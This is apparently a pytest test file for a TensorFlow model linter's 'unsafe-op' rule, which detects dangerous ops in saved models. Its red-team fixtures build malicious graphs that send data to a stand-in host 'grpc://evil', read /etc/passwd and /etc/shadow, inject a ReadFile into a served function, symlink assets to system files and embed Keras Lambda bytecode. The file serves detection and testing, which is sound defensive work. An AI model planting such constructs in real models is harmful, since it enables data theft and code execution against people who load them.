"""unsafe-op: listed ops among what a model server runs; the saver's own checkpoint ops are exempt.

Verified with TensorFlow 2.21: tests/data/real/tf1_py_func.pb imports, and
running its PyFunc node in a fresh process fails (`Could not find callback
with key=pyfunc_0 in the registry`).
"""

from __future__ import annotations

import pytest
from conftest import DATA, lint_text, pinned, require
from serving_graphs import (
    SERVING,
    call,
    copy_model,
    edit_saved_model,
    function_library,
    identity,
    line_of,
    meta,
    node,
    placeholder,
    signature,
    tensor,
)

from typing import Any

from tflint import protos
from tflint.api import lint_file
from tflint.finding import Severity

RULE = "unsafe-op"
ON = {"rules": {RULE: "error"}}
PATH = placeholder("path", "DT_STRING")
READ = node("contents", "ReadFile", "path")
STRING_T = 'attr { key: "Tin" value { list { type: DT_STRING } } } attr { key: "Tout" value { list { type: DT_STRING } } } attr { key: "token" value { s: "pyfunc_0" } } '
RESTORE_ATTRS = 'attr { key: "dtypes" value { list { type: DT_FLOAT } } } '


def _fn(name: str, op: str) -> str:
    """A function `name(x: string) -> string` whose body runs `op` on x."""
    return (
        f'function {{ signature {{ name: "{name}" input_arg {{ name: "x" type: DT_STRING }} output_arg {{ name: "y" type: DT_STRING }} }} '
        f'node_def {{ name: "inner" op: "{op}" input: "x" {STRING_T}}} ret {{ key: "y" value: "inner:output:0" }} }}'
    )


def _string_call(name: str, function: str, *inputs: str) -> str:
    return call(name, function, *inputs, tout=("DT_STRING",))


def _cases():
    text = PATH + "\n" + READ + "\n" + node("log", "PrintV2", "contents") + "\n"
    yield pytest.param(text, [(RULE, "contents", 2), (RULE, "log", 3)], id="graphdef-everything")
    saver = (
        PATH
        + "\n"
        + node("save/RestoreV2", "RestoreV2", "path", "path", "path", attrs=RESTORE_ATTRS)
        + "\n"
        + node("save_1/SaveV2", "SaveV2", "path", "path", "path", attrs='attr { key: "dtypes" value { list { } } } ')
        + "\n"
    )
    yield pytest.param(saver, [], id="graphdef-saver-scope-exempt")
    text = PATH + "\n" + node("restore/RestoreV2", "RestoreV2", "path", "path", "path", attrs=RESTORE_ATTRS) + "\n"
    yield pytest.param(text, [(RULE, "restore/RestoreV2", 2)], id="graphdef-checkpoint-outside-saver")
    text = (
        PATH
        + "\n"
        + node("py", "PyFunc", "path", attrs=STRING_T)
        + "\n"
        + node("eager", "EagerPyFunc", "path", attrs=STRING_T)
        + "\n"
    )
    yield pytest.param(text, [(RULE, "py", 2), (RULE, "eager", 3)], id="python-callbacks")
    lib = "library {\n  " + _fn("f", "PyFunc") + "\n}\n"
    text = PATH + "\n" + lib
    yield pytest.param(text, [(RULE, "inner", line_of(text, "PyFunc"))], id="graphdef-function-body")
    # A meta graph with signatures: only what they (and init / restore) reach runs.
    reached = meta(
        PATH,
        READ,
        identity("out", "contents", "DT_STRING"),
        node("unused", "WriteFile", "path", "path"),
        signatures=[signature("s", tensor("outputs", "o", "out:0", "DT_STRING"))],
    )
    yield pytest.param(
        reached,
        [(RULE, "contents", line_of(reached, '"ReadFile"')), (RULE, "unused", line_of(reached, '"WriteFile"'))],
        id="signature-reaches-readfile-unreached-writefile-too",
    )
    functions = function_library(_fn("served_fn", "PyFunc"), _fn("unused_fn", "EagerPyFunc"))
    text = meta(
        PATH,
        _string_call("StatefulPartitionedCall", "served_fn", "path"),
        _string_call("other", "unused_fn", "path"),
        library=functions,
        signatures=[signature("s", tensor("outputs", "o", "StatefulPartitionedCall:0", "DT_STRING"))],
    )
    yield pytest.param(
        text,
        [
            (RULE, "inner", line_of(text, 'signature { name: "served_fn"')),
            (RULE, "inner", line_of(text, 'signature { name: "unused_fn"')),
        ],
        id="tf2-called-and-uncalled-function",
    )
    init = signature(
        "__saved_model_init_op", 'outputs { key: "__saved_model_init_op" value { name: "init" } }', method=""
    )
    text = meta(PATH, node("init", "NoOp", "^logged"), node("logged", "PrintV2", "path"), signatures=[init])
    yield pytest.param(text, [(RULE, "logged", line_of(text, '"PrintV2"'))], id="init-op-runs")
    saver_def = 'saver_def { filename_tensor_name: "path:0" save_tensor_name: "written:0" restore_op_name: "restored" }'
    text = meta(
        PATH,
        node("written", "SaveV2", "path", "path", "path", attrs='attr { key: "dtypes" value { list { } } } '),
        node("restored", "RestoreV2", "path", "path", "path", attrs=RESTORE_ATTRS),
        node("sneaky", "RestoreV2", "path", "path", "path", attrs=RESTORE_ATTRS),
        signatures=[signature("s", tensor("outputs", "o", "sneaky:0"))],
        extra=saver_def,
    )
    yield pytest.param(text, [(RULE, "sneaky", line_of(text, '"sneaky"'))], id="saverdef-subgraph-exempt")
    training_meta = meta(PATH, READ)  # no signature: nothing says what runs, so everything is checked
    yield pytest.param(
        training_meta, [(RULE, "contents", line_of(training_meta, "ReadFile"))], id="meta-without-signatures"
    )
    yield pytest.param(
        PATH + "\n" + node("table", "InitializeTableFromTextFileV2", "path", "path") + "\n",
        [(RULE, "table", 2)],  # at info: a loader feeds such a placeholder an asset's path
        id="table-from-fed-file-info",
    )


@pytest.mark.parametrize("pbtxt, expected", list(_cases()))
def test_rule(pbtxt, expected):
    assert pinned(lint_text(pbtxt, ON), rule=RULE) == expected


def test_dormant_ops_are_two_levels_below_the_rule():
    text = meta(
        PATH,
        READ,
        identity("out", "contents", "DT_STRING"),
        node("unused", "WriteFile", "path", "path"),
        signatures=[signature("s", tensor("outputs", "o", "out:0", "DT_STRING"))],
    )
    found = [(f.node, str(f.severity)) for f in lint_text(text, ON) if f.rule == RULE]
    assert found == [("contents", "error"), ("unused", "info")]
    found = [(f.node, str(f.severity)) for f in lint_text(text, {"rules": {RULE: "warning"}}) if f.rule == RULE]
    assert found == [("contents", "warning"), ("unused", "info")]
    message = next(f.message for f in lint_text(text, ON) if f.node == "unused")
    assert message == (
        "Node 'unused' runs WriteFile, which writes files (input 'filename', computed in the graph); "
        "nothing runs it, but it ships in the model"
    )


def test_off_by_default():
    assert pinned(lint_text(PATH + "\n" + READ + "\n"), rule=RULE) == []


def test_options_replace_and_extend_the_list():
    text = PATH + "\n" + READ + "\n" + node("custom", "MyCustomOp", "path") + "\n"
    assert pinned(lint_text(text, {"rules": {RULE: {"level": "error", "extra-ops": ["MyCustomOp"]}}}), rule=RULE) == [
        (RULE, "contents", 2),
        (RULE, "custom", 3),
    ]
    assert pinned(lint_text(text, {"rules": {RULE: {"level": "error", "ops": ["MyCustomOp"]}}}), rule=RULE) == [
        (RULE, "custom", 3)
    ]


def test_messages():
    text = (
        PATH
        + "\n"
        + READ
        + "\n"
        + node("py", "PyFunc", "path", attrs=STRING_T)
        + "\n"
        + node("custom", "MyCustomOp", "path")
        + "\n"
    )
    config = {"rules": {RULE: {"level": "error", "extra-ops": ["MyCustomOp"]}}}
    assert [f.message for f in lint_text(text, config) if f.rule == RULE] == [
        "Node 'contents' runs ReadFile, which reads files named by a fed input (input 'filename'); "
        "it runs whenever the graph runs",
        "Node 'py' runs PyFunc, which runs Python code of the exporting process; it runs whenever the graph runs",
        "Node 'custom' runs MyCustomOp, which is on unsafe-op's list; it runs whenever the graph runs",
    ]


def test_real_tf1_py_func_graph():
    findings = [f for f in lint_file(require(DATA / "real" / "tf1_py_func.pb"), ON).findings if f.rule == RULE]
    assert sorted(f.node for f in findings) == ["numpy_function", "py_func", "py_func_stateless", "py_function"]


@pytest.mark.parametrize("name", ["tf1_legacy_init_op", "tf2_module_signatures", "tf2_keras_export"])
def test_generated_models_run_nothing_unsafe(name):
    # Their savers' SaveV2/RestoreV2/MergeV2Checkpoints are exempt; table initializers read assets/.
    assert [f.message for f in lint_file(require(SERVING / name), ON).findings if f.rule == RULE] == []


def test_readfile_injected_into_a_served_tf2_function(tmp_path):
    model = copy_model(require(SERVING / "tf2_module_signatures"), tmp_path)
    saved = protos.SavedModel()
    saved.ParseFromString((model / "saved_model.pb").read_bytes())
    graph = saved.meta_graphs[0].graph_def
    name = saved.meta_graphs[0].signature_def["serving_default"].outputs["y"].name.split(":")[0]
    served = next(n for n in graph.node if n.name == name).attr["f"].func.name

    def inject(message):
        graph = message.meta_graphs[0].graph_def
        function = next(f for f in graph.library.function if f.signature.name == served)
        path = function.node_def.add(name="leak/path", op="Const")
        path.attr["dtype"].type = 7
        path.attr["value"].tensor.dtype = 7
        path.attr["value"].tensor.string_val.append(b"/etc/passwd")
        function.node_def.add(name="leak/ReadFile", op="ReadFile", input=["leak/path:output:0"])

    edit_saved_model(model, inject)
    findings = [f for f in lint_file(model, ON).findings if f.rule == RULE]
    assert [(f.node, f.function, f.graph) for f in findings] == [("leak/ReadFile", served, "meta graph [serve]")]


# -- the red team's cases, triggers, targets, paths ------------------------------------------------

INIT = signature("__saved_model_init_op", 'outputs { key: "__saved_model_init_op" value { name: "init" } }', method="")
X = placeholder("x", "DT_STRING")
SERVE_X = 'inputs { key: "x" value { name: "x:0" dtype: DT_STRING } }'


def _const(name: str, value: str) -> str:
    return node(
        name,
        "Const",
        attrs=f'attr {{ key: "dtype" value {{ type: DT_STRING }} }} '
        f'attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "{value}" }} }} }} ',
    )


def _served(*nodes: str, out: str, library: str = "", extra_signatures: tuple[str, ...] = ()) -> str:
    sig = signature("serving_default", SERVE_X, tensor("outputs", "y", f"{out}:0", "DT_STRING"))
    return meta(X, *nodes, library=library, signatures=[sig, *extra_signatures])


def _strings(key: str, *values: str) -> str:
    listed = " ".join(f's: "{value}"' for value in values)
    return f'attr {{ key: "{key}" value {{ list {{ {listed} }} }} }} '


def _found(text: str) -> list[tuple[str, str, str, str, float]]:
    """(node, level, trigger, capability, security-severity) of each unsafe-op finding."""
    result = []
    for finding in lint_text(text, ON):
        if finding.rule == RULE:
            properties = dict(finding.properties or ())
            result.append(
                (
                    finding.node,
                    str(finding.severity),
                    properties.get("trigger"),
                    properties.get("capability"),
                    properties.get("security-severity"),
                )
            )
    return result


def _red_team():
    debug = node(
        "dbg",
        "DebugIdentity",
        "x",
        attrs='attr { key: "T" value { type: DT_STRING } } ' + _strings("debug_urls", "file:///tmp/dump"),
    )
    yield pytest.param(
        _served(debug, out="dbg"),
        [("dbg", "error", "serve:serving_default", "file-write", 8.5)],
        id="debug-identity-file-url",
    )
    grpc = node("dbg", "DebugNanCount", "x", attrs=_strings("debug_urls", "grpc://evil:6064"))
    yield pytest.param(
        _served(grpc, out="dbg"), [("dbg", "error", "serve:serving_default", "network", 8.5)], id="debug-nan-count-grpc"
    )
    quiet = node("dbg", "DebugIdentity", "x", attrs=_strings("debug_urls"))
    yield pytest.param(
        _served(quiet, out="dbg"), [("dbg", "info", "serve:serving_default", "file-write", 2.0)], id="debug-no-url"
    )
    copy = node("c", "Copy", "x", attrs=_strings("debug_ops_spec", "DebugIdentity;file:///tmp/leak;0"))
    yield pytest.param(
        _served(copy, out="c"), [("c", "error", "serve:serving_default", "file-write", 8.5)], id="copy-debug-ops-spec"
    )
    table = meta(
        X,
        node("t", "HashTableV2"),
        _const("passwd", "/etc/passwd"),
        node("init", "InitializeTableFromTextFileV2", "t", "passwd"),
        signatures=[INIT],
    )
    yield pytest.param(table, [("init", "error", "load", "file-read", 8.5)], id="table-reads-etc-passwd-at-load")
    cache = _served(
        node("ds", "TensorSliceDataset", "x"),
        _const("where", "/tmp/cache"),
        node("cached", "CacheDatasetV2", "ds", "where", "ds"),
        out="cached",
    )
    yield pytest.param(
        cache, [("cached", "error", "serve:serving_default", "file-write", 8.5)], id="cache-dataset-to-a-path"
    )
    memory = _served(
        node("ds", "TensorSliceDataset", "x"),
        _const("where", ""),
        node("cached", "CacheDataset", "ds", "where"),
        out="cached",
    )
    yield pytest.param(memory, [], id="cache-dataset-in-memory")
    leak = _served(node("w", "WriteFile", "x", "x"), identity("y", "x", "DT_STRING"), out="w")
    yield pytest.param(
        leak, [("w", "error", "serve:serving_default", "file-write", 9.3)], id="write-file-named-by-request"
    )
    relative = _served(_const("p", "notes.txt"), node("r", "ReadFile", "p"), out="r")
    yield pytest.param(relative, [("r", "warning", "serve:serving_default", "file-read", 5.5)], id="relative-constant")
    for op, capability in (
        ("DecodeProtoV2", "file-read"),
        ("EncodeProto", "file-read"),
    ):
        text = _served(
            node("p", op, "x", attrs='attr { key: "descriptor_source" value { s: "/etc/descriptors" } } '), out="p"
        )
        yield pytest.param(text, [("p", "error", "serve:serving_default", capability, 8.5)], id=f"{op}-descriptor-file")
    pool = _served(
        node("p", "DecodeProtoV2", "x", attrs='attr { key: "descriptor_source" value { s: "local://" } } '), out="p"
    )
    yield pytest.param(pool, [], id="decode-proto-generated-pool")
    for op, position in (("DataServiceDatasetV4", 2), ("RegisterDatasetV2", 1), ("RemoteCall", 0)):
        inputs = ["x"] * (position + 1)
        text = _served(_const("a", "grpc://evil:5000"), node("n", op, *inputs[:position], "a"), out="n")
        yield pytest.param(text, [("n", "error", "serve:serving_default", "network", 8.5)], id=f"{op}-address")
    stderr = _served(node("p", "PrintV2", "x", attrs='attr { key: "output_stream" value { s: "stderr" } } '), out="p")
    yield pytest.param(stderr, [("p", "info", "serve:serving_default", "logging", 2.0)], id="tf-print-to-stderr")
    to_file = _served(
        node("p", "PrintV2", "x", attrs='attr { key: "output_stream" value { s: "file:///tmp/out" } } '), out="p"
    )
    yield pytest.param(to_file, [("p", "error", "serve:serving_default", "file-write", 8.5)], id="tf-print-to-a-file")
    for op in ("GenerateVocabRemapping", "LoadAndRemapMatrix"):
        text = _served(_const("f", "/etc/shadow"), node("n", op, "f", "f", "f", "f", "f"), out="n")
        yield pytest.param(text, [("n", "error", "serve:serving_default", "file-read", 8.5)], id=op)


@pytest.mark.parametrize("text, expected", list(_red_team()))
def test_red_team_cases(text, expected):
    assert _found(text) == expected


def _fn_const(name: str, op: str, value: str, *, arg: bool = False) -> str:
    """A function `name(x) -> y` whose body runs `op` on a constant target (or on its argument)."""
    const = (
        f'node_def {{ name: "target" op: "Const" attr {{ key: "dtype" value {{ type: DT_STRING }} }} '
        f'attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "{value}" }} }} }} }} '
    )
    source = "x" if arg else "target:output:0"
    return (
        f'function {{ signature {{ name: "{name}" input_arg {{ name: "x" type: DT_STRING }} output_arg {{ name: "y" type: DT_STRING }} }} '
        f'{const}node_def {{ name: "inner" op: "{op}" input: "{source}" }} ret {{ key: "y" value: "inner:contents:0" }} }}'
    )


def _chain(depth: int, op: str, value: str = "/etc/passwd", *, arg: bool = False) -> str:
    """`depth` functions deep: f0 calls f1 ... the last runs `op`."""
    functions = []
    for level in range(depth - 1):
        functions.append(
            f'function {{ signature {{ name: "f{level}" input_arg {{ name: "x" type: DT_STRING }} output_arg {{ name: "y" type: DT_STRING }} }} '
            f'node_def {{ name: "call" op: "PartitionedCall" input: "x" {STRING_T}attr {{ key: "f" value {{ func {{ name: "f{level + 1}" }} }} }} }} '
            'ret { key: "y" value: "call:output:0" } }'
        )
    functions.append(_fn_const(f"f{depth - 1}", op, value, arg=arg))
    return function_library(*functions)


@pytest.mark.parametrize("depth", [1, 3])
def test_functions_deep_with_path(depth):
    text = _served(_string_call("call", "f0", "x"), out="call", library=_chain(depth, "ReadFile"))
    (finding,) = [f for f in lint_text(text, ON) if f.rule == RULE]
    properties = dict(finding.properties)
    assert (finding.node, finding.function, properties["trigger"]) == (
        "inner",
        f"f{depth - 1}",
        "serve:serving_default",
    )
    assert properties["path"] == [
        "signature 'serving_default' output 'y'",
        "node 'call'",
        *[step for level in range(depth - 1) for step in (f"function 'f{level}'", "node 'call'")],
        f"function 'f{depth - 1}'",
        "node 'inner'",
    ]
    assert properties["target-values"] == ["/etc/passwd"]


def test_argument_traced_to_the_signature_input_through_functions():
    text = _served(_string_call("call", "f0", "x"), out="call", library=_chain(3, "ReadFile", arg=True))
    assert _found(text) == [("inner", "error", "serve:serving_default", "file-read", 9.3)]


def test_if_branch_and_dataset_function_are_reached():
    branch = _fn_const("then_branch", "WriteFile", "/tmp/pwned")
    mapped = _fn_const("map_fn", "ReadFile", "/etc/hostname")
    cond = node(
        "cond",
        "If",
        "x",
        "x",
        attrs='attr { key: "then_branch" value { func { name: "then_branch" } } } '
        'attr { key: "else_branch" value { func { name: "then_branch" } } } ',
    )
    ds = node("mapped", "MapDataset", "x", attrs='attr { key: "f" value { func { name: "map_fn" } } } ')
    text = _served(
        cond, ds, identity("both", "cond", "DT_STRING"), out="both", library=function_library(branch, mapped)
    )
    found = _found(text)
    assert ("inner", "error", "serve:serving_default", "file-write", 8.5) in found
    # The MapDataset feeds no signature output: its function ships dormant.
    assert ("inner", "info", "dormant", "file-read", 3.0) in found


def _graph_def_bytes(*node_defs: Any) -> str:
    graph = protos.GraphDef()
    for name, op, inputs, value in node_defs:
        item = graph.node.add(name=name, op=op, input=inputs)
        if value is not None:
            item.attr["dtype"].type = 7
            item.attr["value"].tensor.dtype = 7
            item.attr["value"].tensor.string_val.append(value)
    return "".join(f"\\{byte:03o}" for byte in graph.SerializeToString())


def test_nested_graph_def_run_by_dataset_from_graph():
    inner = _graph_def_bytes(("path", "Const", [], b"/tmp/written"), ("w", "WriteFile", ["path", "path"], None))
    graph_const = node(
        "gd",
        "Const",
        attrs=f'attr {{ key: "dtype" value {{ type: DT_STRING }} }} '
        f'attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "{inner}" }} }} }} ',
    )
    text = _served(graph_const, node("ds", "DatasetFromGraph", "gd"), out="ds")
    (finding,) = [f for f in lint_text(text, ON) if f.rule == RULE]
    properties = dict(finding.properties)
    assert (finding.node, str(finding.severity), properties["trigger"]) == ("ds", "error", "serve:serving_default")
    assert properties["path"][-2:] == ["nested GraphDef", "node 'w'"]
    assert properties["target-values"] == ["/tmp/written"]


def test_nested_graph_depth_is_bounded():
    blob = protos.GraphDef()
    blob.node.add(name="w", op="WriteFile", input=["w", "w"])
    for level in range(8):  # each level wraps the last in a DatasetFromGraph of its own
        outer = protos.GraphDef()
        const = outer.node.add(name=f"g{level}", op="Const")
        const.attr["value"].tensor.dtype = 7
        const.attr["value"].tensor.string_val.append(blob.SerializeToString())
        outer.node.add(name=f"d{level}", op="DatasetFromGraph", input=[f"g{level}"])
        blob = outer
    from tflint.tf.security import MAX_NESTING

    inner = "".join(f"\\{byte:03o}" for byte in blob.SerializeToString())
    text = _served(
        node(
            "gd",
            "Const",
            attrs=f'attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "{inner}" }} }} }} ',
        ),
        node("ds", "DatasetFromGraph", "gd"),
        out="ds",
    )
    assert _found(text) == []  # 9 graphs deep: past MAX_NESTING, left unread (never a crash)
    assert MAX_NESTING < 9


def test_saver_ops_exempt_unless_a_signature_reaches_them():
    saver_def = 'saver_def { filename_tensor_name: "path:0" save_tensor_name: "written:0" restore_op_name: "restored" }'
    text = meta(
        X,
        PATH,
        node("written", "SaveV2", "path", "path", "path", attrs='attr { key: "dtypes" value { list { } } } '),
        node("restored", "RestoreV2", "path", "path", "path", attrs=RESTORE_ATTRS),
        signatures=[signature("serving_default", SERVE_X, tensor("outputs", "y", "written:0", "DT_STRING")), INIT],
        extra=saver_def,
    )
    assert [(f.node, str(f.severity)) for f in lint_text(text, ON) if f.rule == RULE] == [("written", "error")]


def test_asset_leaving_the_model_directory():
    text = meta(
        _const("asset_path", "vocab.txt"),
        node("t", "HashTableV2"),
        node("init", "InitializeTableFromTextFileV2", "t", "asset_path"),
        signatures=[INIT],
        extra='asset_file_def { tensor_info { name: "asset_path:0" } filename: "../../etc/passwd" }',
    )
    found = [(f.node, str(f.severity), dict(f.properties)["trigger"]) for f in lint_text(text, ON) if f.rule == RULE]
    assert found == [("asset_path", "error", "load")]


def test_asset_symlink(tmp_path):
    model = copy_model(require(SERVING / "tf1_legacy_init_op"), tmp_path)
    (model / "assets" / "vocab.txt").unlink()
    (model / "assets" / "vocab.txt").symlink_to("/etc/passwd")
    findings = [f for f in lint_file(model, ON).findings if f.rule == RULE]
    assert [(f.severity, f.message) for f in findings] == [
        (
            Severity.ERROR,
            "Asset 'vocab.txt' is a symbolic link: the loader reads whatever it points at; "
            "it is read when the model is loaded (file read at load)",
        )
    ]


def test_allow_list_mode():
    text = _served(node("n", "StringUpper", "x"), node("r", "ReadFile", "n"), out="r")
    config = {"rules": {RULE: {"level": "error", "allow-ops": ["Placeholder", "StringUpper"]}}}
    found = [(f.node, f.message) for f in lint_text(text, config) if f.rule == RULE]
    assert found == [
        (
            "r",
            "Node 'r' is ReadFile, which is not on unsafe-op's allow-ops list; "
            "it runs when signature 'serving_default' is served",
        ),
        (
            "r",
            "Node 'r' runs ReadFile, which reads files named by a signature input (input 'filename'); "
            "it runs when signature 'serving_default' is served",
        ),
    ]


def test_untrusted_preset_allows_ordinary_models():
    for name in ("tf1_legacy_init_op", "tf2_module_signatures", "tf2_keras_export"):
        config = {"extends": "untrusted"}
        report = lint_file(require(SERVING / name), config)
        assert [f.message for f in report.findings if f.rule == RULE and f.severity >= Severity.WARNING] == []


def _saved_metadata(*layers: tuple[str, dict]) -> bytes:
    """A SavedMetadata (keras_metadata.pb) with one SavedObject per (node_path, metadata JSON)."""
    import json

    from tflint.wire import varint

    def field(number: int, payload: bytes) -> bytes:
        return varint(number << 3 | 2) + varint(len(payload)) + payload

    out = b""
    for path, metadata in layers:
        node = field(3, path.encode()) + field(4, b"_tf_keras_layer") + field(5, json.dumps(metadata).encode())
        out += field(1, node)
    return out


def test_keras_lambda_layers_in_keras_metadata(tmp_path):
    model = copy_model(require(SERVING / "tf2_module_signatures"), tmp_path)
    bytecode = "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMIAAAAfABkARQAUwCpAk7pAgAAAKkAqQFaAXhyAgAAAHICAAAA"
    (model / "keras_metadata.pb").write_bytes(
        _saved_metadata(
            ("root.layer-0", {"class_name": "Dense", "config": {"name": "dense", "units": 3}}),
            (
                "root.layer-1",
                {
                    "class_name": "Lambda",
                    "config": {
                        "function": {"class_name": "__lambda__", "config": {"code": bytecode}},
                        "function_type": "lambda",
                    },
                },
            ),
            (
                "root.layer-2",
                {"class_name": "Lambda", "config": {"function": [bytecode, None, None], "function_type": "lambda"}},
            ),
        )
    )
    findings = [f for f in lint_file(model, ON).findings if f.rule == RULE]
    assert [(f.severity, dict(f.properties)["trigger"], dict(f.properties)["capability"]) for f in findings] == [
        (Severity.ERROR, "load", "code-execution")
    ] * 2
    assert findings[0].message == (
        "keras_metadata.pb: layer 'root.layer-1' is a Keras Lambda layer; its Python bytecode runs when the model "
        "is loaded with Keras (`tf.keras.models.load_model`), not by TensorFlow's loaders"
    )


@pytest.mark.parametrize("content", [b"", b"\xff\xff\xff garbage", b"\x0a\x05\x1a\x03abc"])
def test_keras_metadata_that_is_not_one_is_no_finding_and_no_crash(tmp_path, content):
    model = copy_model(require(SERVING / "tf2_module_signatures"), tmp_path)
    (model / "keras_metadata.pb").write_bytes(content)
    assert [f.message for f in lint_file(model, ON).findings if f.rule == RULE] == []


def test_graph_def_saved_as_a_variable_value_is_read_from_the_checkpoint(tmp_path):
    model = copy_model(DATA / "security" / "m_checkpoint_graph", tmp_path)
    (finding,) = [f for f in lint_file(model, ON).findings if f.rule == RULE]
    assert "checkpoint 'blob/.ATTRIBUTES/VARIABLE_VALUE'" in dict(finding.properties)["path"]
    # A broken shard is no GraphDef to read: no finding about it, and no crash.
    shard = model / "variables" / "variables.data-00000-of-00001"
    shard.write_bytes(shard.read_bytes()[:20])
    assert [f for f in lint_file(model, ON).findings if f.rule == RULE] == []
